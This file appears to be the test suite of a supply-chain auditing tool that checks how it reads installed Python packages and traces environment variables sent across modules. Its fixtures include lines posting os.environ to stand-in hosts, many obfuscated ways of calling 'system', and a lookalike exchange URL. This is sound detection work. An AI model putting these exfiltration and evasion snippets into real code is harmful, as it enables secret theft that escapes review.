"""Files of installed packages: which of them are read, and that nothing passes through one unread."""

import ast
import time
from pathlib import Path

import pytest

from ringfence.audit.code import glance, scopes
from ringfence.audit.code.project import join
from ringfence.audit.code.python import read
from ringfence.audit.code.reader import Wanted
from ringfence.audit.finding import Place
from ringfence.audit.messages import Look
from ringfence.audit.survey import Scope, survey

PLAIN = "def add(a, b):\n    return a + b\n"
SECRETS = "import os, requests\nrequests.post('https://n.example', json=dict(os.environ))\n"
HOME = "lib/site-packages/pack/"


@pytest.mark.parametrize(
    "text",
    [
        "import requests\n",
        "import os, socket as s\n",
        "x = 1; from urllib import request\n",
        "KEY = os.environ\n",
        "run = [exec]\n",
        "eval(x)\n",
        "f = exec if x else y\n",
        "o.system(x)\n",
        "from os import system as s\n",
        "getattr(o, 'sys' + 'tem')(x)\n",
        "getattr(o, '\\x73ystem')(x)\n",
        "vars(o)['metsys'[::-1]](x)\n",
        "client.fetch(u, verify=False)\n",
        "api_secret = x\n",
        "TO = '0x" + "ab12" * 10 + "'\n",
        "U = 'https://api.binancee.net/'\n",
        "\uff45xec(x)\n",
        "importlib\n",
        "getattr(o, 'sys' 'tem')(x)\n",
        "getattr(o, ('sys')  # so\n + 'tem')(x)\n",
        "getattr(o, 'sys\\\ntem')(x)\n",
        "getattr(o, '\\163ystem')(x)\n",
        "getattr(o, '\\N{LATIN SMALL LETTER S}ystem')(x)\n",
        "getattr(o, ''.join(['sys', 'tem']))(x)\n",
        "getattr(o, '{}{}'.format('sys', 'tem'))(x)\n",
        "getattr(o, f\"{'sys'}tem\")(x)\n",
        "getattr(o, ''.join(reversed('metsys')))(x)\n",
        "getattr(o, bytes([115, 121]).decode() + 'stem')(x)\n",
        "getattr(o, 'rxrp'.translate(t))(x)\n",
        "b\uff16\uff14 = base\uff16\uff14\n",
        "from pip._internal.cli.main import main as go\n",
        "import pip\n",
    ],
)
def test_a_file_with_a_word_that_tells_is_read(text: str) -> None:
    path = HOME + "a.py"
    assert glance.tells((PLAIN + text).encode())
    assert not read(path, (SECRETS + text).encode(), whole=False).skimmed
    assert read(path, (PLAIN + "U = 'https://docs.example.net/'\n").encode(), whole=False).skimmed


@pytest.mark.parametrize("path", ["bot/a.py", "a.whl!/site-packages/a.py", "site-packages.py", HOME + "a.pth"])
def test_only_what_is_installed_is_skimmed(path: str) -> None:
    assert not read(path, PLAIN.encode(), whole=False).skimmed
    assert not read(HOME + "a.py", PLAIN.encode()).skimmed


def test_of_a_file_in_which_nothing_begins_or_ends_as_much_is_kept_as_of_a_skimmed_one() -> None:
    text = "import importlib\nfrom .net import send\ndef go(x):\n    send(x)\n"
    module = read(HOME + "a.py", text.encode(), whole=False)
    assert (module.skimmed, module.summary.flows) == (True, ())
    assert module.summary.names["send"] == "/lib.site-packages.pack.net.send"
    assert read(HOME + "a.py", text.encode()).summary.flows


def test_another_encoding_is_read() -> None:
    assert glance.tells(PLAIN.encode("utf-16"))
    assert glance.tells(b"# coding: rot13\n" + PLAIN.encode())
    assert not glance.tells(b"# -*- coding: utf-8 -*-\n" + PLAIN.encode())


def test_a_skimmed_file_still_says_what_stands_out_of_sight_and_which_hosts_it_names() -> None:
    text = PLAIN + "U = 'https://docs.example.net/'\nx = 1" + " " * 200 + "; y = (2)\n"
    module = read(HOME + "a.py", text.encode(), whole=False)
    assert module.skimmed
    assert [found.rule for found in module.findings] == ["code/off-screen"]
    assert [(one.what, one.place) for one in module.capabilities] == [("docs.example.net", Place(HOME + "a.py", 3))]


SEND = "import requests\ndef send(x, to):\n    requests.post(to, json=x)\n"
READ = "import os\ndef held():\n    return dict(os.environ)\n"
GO = "def go(to):\n    requests.post(f'https://{to}/n', json=dict(os.environ))\n"
TO = "'https://collector.example/n'"
RELAYS = {
    "handed on as a parameter": (
        {"relay.py": "from .net import send\ndef go(x):\n    send(x, " + TO + ")\n"},
        "import os\nfrom .relay import go\ngo(dict(os.environ))\n",
    ),
    "the host in a file of its own": (
        {"conf.py": "PLACE = 'collector' + '.example'\n"},
        "import os, requests\nfrom .conf import PLACE\nrequests.post(f'https://{PLACE}/n', json=dict(os.environ))\n",
    ),
    "taken from one and given to another": (
        {"relay.py": "from .held import held\nfrom .net import send\nsend(held(), " + TO + ")\n"},
        "x = 1\n",
    ),
    "handed on by name": (
        {"relay.py": "from .net import (  # noqa: F401 (kept)\n    send as go,\n)\n"},
        "import os\nfrom .relay import go\ngo(dict(os.environ), " + TO + ")\n",
    ),
    "handed on with all names": (
        {"relay.py": "from .net import *\n", "other.py": "from .relay import *\n"},
        "import os\nfrom .other import send\nsend(dict(os.environ), " + TO + ")\n",
    ),
    "taken behind a sign of a comment": (
        {"relay.py": "x = '#'; from .held import held\nfrom .net import send\nsend(held(), " + TO + ")\n"},
        "x = 1\n",
    ),
    "kept by a class and sent by one that extends it": (
        {"base.py": "from .net import send\nclass Base:\n    def put(self, x):\n        send(x, " + TO + ")\n"},
        "import os\nfrom .base import Base\nclass Own(Base):\n    def go(self):\n        self.put(dict(os.environ))\n",
    ),
    "the host said by whoever hands on": (
        {"conf.py": "PLACE = 'collector' + '.example'\n"},
        "import os, requests\nfrom .conf import PLACE\n" + GO + "go(PLACE)\n",
    ),
    "taken from a module by its whole name": (
        {"relay.py": "import pack.held, pack.net\npack.net.send(pack.held.held(), " + TO + ")\n"},
        "x = 1\n",
    ),
    "taken from a module by another name": (
        {"relay.py": "import pack.held as h\nimport pack.net as n\nn.send(h.held(), " + TO + ")\n"},
        "x = 1\n",
    ),
    "taken from one that hands on all names": (
        {"a.py": "from .held import *\n",
         "relay.py": "from .a import *\nfrom .net import send\nsend(held(), " + TO + ")\n"},
        "x = 1\n",
    ),
    "taken from one that gives back what it takes": (
        {"a.py": "from .held import held\ndef kept():\n    return held()\n",
         "relay.py": "from .a import kept\nfrom .net import send\nsend(kept(), " + TO + ")\n"},
        "x = 1\n",
    ),
    "through two": (
        {"a.py": "from .b import go\ndef on(x):\n    go(x)\n",
         "b.py": "from .net import send\ndef go(x):\n    send(x, " + TO + ")\n"},
        "import os\nfrom .a import on\non(dict(os.environ))\n",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("relays", "main"), RELAYS.values(), ids=RELAYS.keys())
def test_what_passes_through_a_skimmed_file_is_followed(relays: dict[str, str], main: str, tmp_path: Path) -> None:
    folder = tmp_path / HOME
    folder.mkdir(parents=True)
    for name, text in {"net.py": SEND, "held.py": READ, "main.py": main, "plain.py": PLAIN, **relays}.items():
        (folder / name).write_text(text)
    assert all(read(HOME + name, text.encode(), whole=False).skimmed for name, text in relays.items())

    seen = survey(tmp_path, Look(code=True), Scope(), lambda _: None)
    found = [one for module in seen.modules for one in module.findings] + list(join(seen.modules))
    assert "code/environment-sent" in {one.rule for one in found}
    skimmed = {Path(one.path).name for one in seen.modules if one.skimmed}
    only_names = {
        name for name, text in relays.items() if "(dict" not in text and "def" not in text and "=" not in text
    }
    assert "plain.py" in skimmed
    assert skimmed <= {"plain.py", "main.py", *only_names}


@pytest.mark.parametrize(
    ("line", "read_"),
    [
        ("getattr(o, n)(x)", True),
        ("getattr(\n        o,\n        n)(x)", True),
        ("look = getattr", True),
        ("setattr(o, n + 's', x)", True),
        ("o.put(x)", True),
        ("\uff4f.run(x)", True),
        ("getattr(o, 'size', None)", False),
        ("caf\u00e9 = '\\x00'", False),
        ("posted = put", False),
    ],
)
def test_of_a_large_library_file_the_functions_are_read_that_look_names_up(line: str, read_: bool) -> None:
    source = f"def go(o, n, x):\n    {line}\n" + "y = 1\n" * 200
    (node, *_) = ast.parse(source).body
    assert isinstance(node, ast.FunctionDef)
    assert Wanted(source, installed=True).wants(scopes.Function("go", node, scopes.Scope(""), ("o", "n", "x"))) is read_


@pytest.mark.parametrize(
    "thing",
    [
        '"#' * 100 + "\n", '"', "'", '"+', '" \n', "{'", "\\x41", "\\N{", "from x import (", "from . ", "import ",
        "#from x import (\n", "http://a", "'http://", "getattr(", "setattr(x,", "verify", "pip.", "exec", "x" * 99,
        "from" + " " * 500, "\uff45",
    ],
)  # fmt: skip
def test_a_file_of_one_thing_is_looked_at_soon(thing: str) -> None:
    data = ("getattr\n" + thing * (300_000 // len(thing))).encode()
    start = time.process_time()
    glance.tells(data)
    read(HOME + "a.py", data, whole=False)
    assert time.process_time() - start < 5


def test_names_that_go_from_file_to_file_for_ever_end_somewhere() -> None:
    chain = [read(HOME + f"m{at}.py", f"from .m{at + 1} import *\n".encode()) for at in range(3000)]
    circle = [
        read(HOME + f"c{at}.py", f"from .c{(at + 1) % 50} import *\nfrom .c0 import *\n".encode()) for at in range(50)
    ]
    main = read("main.py", b"import os\nfrom pack.m0 import a\nfrom pack.c0 import b\na(os.environ)\nb(os.environ)\n")
    assert not [one for one in join([main, *chain, *circle]) if one.rule == "code/environment-sent"]


def test_a_file_of_which_something_is_said_is_read_as_a_whole(tmp_path: Path) -> None:
    folder = tmp_path / HOME
    folder.mkdir(parents=True)
    own = "class Own:\n    def run(self, ns):\n        exec(self.text, ns)\n" + "    x = 0\n" * 200
    made = own + "    def make(self, dct):\n        self.text = tidy(TEMPLATE % dct)\n"
    text = "from .other import tidy\nTEMPLATE = 'def f(x): return %(name)s'\n" + made
    (folder / "made.py").write_text(text)
    (folder / "other.py").write_text("def tidy(text):\n    return text\n")
    assert read(HOME + "made.py", text.encode(), whole=False).unread == ("Own.make",)

    seen = survey(tmp_path, Look(code=True), Scope(), lambda _: None)
    assert {one.path: one.unread for one in seen.modules}[HOME + "made.py"] == ()
